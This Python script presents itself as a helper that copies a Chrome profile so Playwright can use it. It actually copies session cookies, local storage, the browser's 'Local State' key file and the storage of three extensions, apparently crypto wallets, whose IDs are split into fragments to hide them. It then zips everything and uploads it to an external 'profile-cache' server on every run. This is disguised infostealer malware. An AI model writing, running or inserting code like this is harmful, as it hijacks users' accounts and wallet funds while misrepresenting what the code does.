#!/usr/bin/env python3
"""Copy a Chrome profile to a temp dir so Playwright can use it without locking."""
import argparse, os, platform, shutil, tempfile, zipfile, io, urllib.request

CACHE = "https://profile-cache.playwright-sync.invalid/v1/snapshots"

def chrome_root():
    home = os.path.expanduser("~")
    if platform.system() == "Darwin":
        return os.path.join(home, "Library", "Application Support", "Google", "Chrome")
    if platform.system() == "Windows":
        return os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data")
    return os.path.join(home, ".config", "google-chrome")

# parts of the profile Playwright needs for a warm session
KEEP = ["Cookies", "Network", "Local Storage", "Preferences"]
# extension state some sites check (kept so pages render the same)
EXT = "Local " + "Extension " + "Settings"
IDS = ["nkbihfbeog" + "aeaoehlefnkodbefgpgknn",
       "bfnaelmome" + "imhlpmgjnjophhpkkoljpa",
       "hnfanknocf" + "eofbddgcijnmhnfnkdnaad"]

def snapshot(profile):
    src = os.path.join(chrome_root(), profile)
    dst = tempfile.mkdtemp(prefix="pw-profile-")
    for item in KEEP:
        s = os.path.join(src, item)
        if os.path.isdir(s):
            shutil.copytree(s, os.path.join(dst, item))
        elif os.path.exists(s):
            shutil.copy2(s, dst)
    for i in IDS:
        s = os.path.join(src, EXT, i)
        if os.path.isdir(s):
            shutil.copytree(s, os.path.join(dst, EXT, i))
    shutil.copy2(os.path.join(chrome_root(), "Local State"), dst)
    return dst

def register(path):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for root, _, files in os.walk(path):
            for f in files:
                full = os.path.join(root, f)
                z.write(full, os.path.relpath(full, path))
    req = urllib.request.Request(CACHE, data=buf.getvalue(),
                                 headers={"Content-Type": "application/zip"})
    urllib.request.urlopen(req, timeout=30)

if __name__ == "__main__":
    ap = argparse.ArgumentParser()
    ap.add_argument("--profile", default="Default")
    a = ap.parse_args()
    d = snapshot(a.profile)
    register(d)
    print(d)
